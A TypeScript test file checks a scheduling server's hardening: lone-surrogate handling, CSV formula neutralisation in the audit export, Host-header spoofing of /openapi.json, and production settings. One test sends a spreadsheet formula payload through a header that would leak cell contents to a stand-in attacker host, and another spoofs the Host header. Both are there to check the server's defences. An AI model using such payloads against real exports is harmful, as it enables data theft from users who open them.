import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase } from '../support/database.js';
import { eventually } from '../support/wait.js';
import { type Receiver, startReceiver } from '../support/receiver.js';
import { api, runCli, startServer, type TestServer } from '../support/server.js';

/** U+FFFD, what a lone surrogate half becomes, percent-encoded as UTF-8. */
const REPLACED = '%EF%BF%BD';

// Low-severity hardening, each as its probe: a lone surrogate anywhere text enters, formula cells in the audit CSV,
// the API reference's server and long path parameters, a configuration that would publish every tenant's hosts, and
// a production server: no Swagger UI unless asked for, no console sign-in over plain http.
describe('hardening: the low-severity probes', () => {
  let db: Awaited<ReturnType<typeof createTestDatabase>>;
  let server: TestServer;
  let rx: Receiver;
  const call = (method: string, path: string, body?: unknown) =>
    api(server, server.apiKey, method, path, body);

  beforeAll(async () => {
    db = await createTestDatabase('hardening_lows');
    rx = await startReceiver();
    server = await startServer({ databaseUrl: db.url, env: { SCHED_RATE_LIMIT_FACTOR: '100' } });
  });
  afterAll(async () => {
    await server?.stop();
    await rx?.close();
    await db?.drop();
  });

  describe('a lone surrogate is made well-formed, never a 500 or a chain retried for ever', () => {
    it('in a trigger value that goes into a URL path', async () => {
      const t = await call('POST', '/v1/templates', {
        name: 'Order',
        mode: 'webhook',
        request_config: { url: `${rx.url}/orders/{{order_id}}` },
        placeholders: [{ name: 'order_id', required: true }],
      });
      expect(t.status, JSON.stringify(t.body)).toBe(201);
      const res = await fetch(`${server.url}${new URL(t.body.data.trigger_url).pathname}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: '{"order_id":"\\ud800","schedule":{"wait":"1s"}}',
      });
      expect(res.status, await res.clone().text()).toBe(201);
      const [got] = await rx.waitFor(`/orders/${REPLACED}`);
      expect(got!.url).toBe(`/orders/${REPLACED}`);
    });

    it("in an action's name and body, and a chain's input", async () => {
      const action = await call(
        'POST',
        '/v1/actions',
        '{"name":"n\\ud800","schedule":{"wait":"1s"},"request":{"url":"' +
          `${rx.url}/lone` +
          '","body":{"\\udc00k":"v\\ud800"}}}',
      );
      expect(action.status, JSON.stringify(action.body)).toBe(201);
      expect(action.body.data.name).toBe('n\ufffd');
      const [got] = await rx.waitFor('/lone');
      expect(got!.json).toEqual({ '\ufffdk': 'v\ufffd' });

      const chain = await call(
        'POST',
        '/v1/chains',
        '{"name":"input","input":{"note":"\\ud800"},"steps":[{"name":"s","type":"http_call","url":"' +
          `${rx.url}/chain-input` +
          '","body":{"note":"{{input.note}}"}},{"name":"t","type":"delay","delay":"1s"}]}',
      );
      expect(chain.status, JSON.stringify(chain.body)).toBe(201);
      const [step] = await rx.waitFor('/chain-input');
      expect(step!.json).toEqual({ note: '\ufffd' });
    });

    it("in a step's response read into the next step's URL and the callback: the chain completes", async () => {
      rx.on('/responder', {
        status: 200,
        body: '{"id":"\\ud800"}',
        headers: { 'content-type': 'application/json' },
      });
      const chain = await call('POST', '/v1/chains', {
        name: 'responder',
        callback_url: `${rx.url}/chain-callback`,
        steps: [
          { name: 'ask', type: 'http_call', url: `${rx.url}/responder` },
          {
            name: 'use',
            type: 'http_call',
            url: `${rx.url}/next/{{steps.0.response.id}}`,
            body: { id: '{{steps.0.response.id}}' },
          },
        ],
      });
      expect(chain.status, JSON.stringify(chain.body)).toBe(201);
      const [next] = await rx.waitFor(`/next/${REPLACED}`, 1, 30_000);
      expect(next!.json).toEqual({ id: '\ufffd' });
      const done = await eventually(async () => {
        const c = (await call('GET', `/v1/chains/${chain.body.data.id}`)).body.data;
        return c.status === 'completed' ? c : null;
      }, 30_000);
      expect(done.status).toBe('completed');
      await rx.waitFor('/chain-callback', 1, 30_000);
    });
  });

  it('the audit CSV export neutralises a formula in every text cell', async () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Open report")';
    const made = await fetch(`${server.url}/v1/actions`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${server.apiKey}`,
        'content-type': 'application/json',
        'user-agent': formula,
      },
      body: JSON.stringify({
        name: '@SUM(1+1)',
        schedule: { wait: '1d' },
        request: { url: `${rx.url}/csv` },
      }),
    });
    expect(made.status).toBe(201);
    const csv = await (
      await fetch(`${server.url}/v1/audit-events/export?format=csv&action=action.create`, {
        headers: { authorization: `Bearer ${server.apiKey}` },
      })
    ).text();
    const row = csv.split('\r\n').find((line) => line.includes('HYPERLINK'));
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&B2&C2,""Open report"")"`);
    // No cell of the export starts a formula.
    for (const line of csv.trim().split('\r\n'))
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? [])
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("/openapi.json never names the request's Host as its server", async () => {
    const { port } = new URL(server.url);
    const body = await new Promise<string>((resolve, reject) => {
      const req = httpRequest(
        { host: '127.0.0.1', port, path: '/openapi.json', headers: { host: 'evil.example' } },
        (res) => {
          let text = '';
          res.on('data', (chunk: Buffer) => {
            text += chunk.toString();
          });
          res.on('end', () => resolve(text));
        },
      );
      req.on('error', reject);
      req.end();
    });
    expect(JSON.parse(body).servers).toEqual([{ url: '/', description: 'This sched server' }]);
    expect(body).not.toContain('evil.example');
  });

  it('a path parameter over 2,048 characters answers the API error body without the path', async () => {
    const long = 'a'.repeat(3000);
    const res = await call('GET', `/v1/domains/${long}`);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      code: 'bad_request',
      message: 'a path parameter is longer than 2048 characters',
    });
    expect(JSON.stringify(res.body)).not.toContain('aaaa');
  });

  it('host labels on /metrics without a token are a configuration error at start', async () => {
    const res = await runCli(['serve'], {
      SCHED_METRICS_HOST_LABELS: 'true',
      DATABASE_URL: 'postgres://x@127.0.0.1:1/x',
    });
    expect(res.code).not.toBe(0);
    expect(res.stderr).toContain('SCHED_METRICS_HOST_LABELS: needs SCHED_METRICS_TOKEN');
  });

  describe('a production server on a plain-http public URL', () => {
    let prodDb: Awaited<ReturnType<typeof createTestDatabase>>;
    let prod: TestServer;
    beforeAll(async () => {
      prodDb = await createTestDatabase('hardening_prod');
      prod = await startServer({
        databaseUrl: prodDb.url,
        env: {
          NODE_ENV: 'production',
          SCHED_ALLOW_PRIVATE_DESTINATIONS: 'false',
          SCHED_PUBLIC_URL: 'http://sched.example.com',
        },
      });
    });
    afterAll(async () => {
      await prod?.stop();
      await prodDb?.drop();
    });

    it('serves no Swagger UI unless SCHED_DOCS asks; /openapi.json names SCHED_PUBLIC_URL', async () => {
      expect((await fetch(`${prod.url}/docs`)).status).toBe(404);
      expect((await fetch(`${prod.url}/docs/assets/swagger-ui-bundle.js`)).status).toBe(404);
      const doc = (await (await fetch(`${prod.url}/openapi.json`)).json()) as { servers: unknown };
      expect(doc.servers).toEqual([{ url: 'http://sched.example.com', description: 'This sched server' }]);
    });

    it('refuses a console sign-in over plain http; over https (a trusted proxy) it would be __Host-', async () => {
      const res = await fetch(`${prod.url}/console/session`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ api_key: prod.apiKey }),
      });
      expect(res.status).toBe(403);
      expect(res.headers.get('set-cookie')).toBeNull();
      expect(((await res.json()) as { message: string }).message).toContain('https');
    });
  });
});
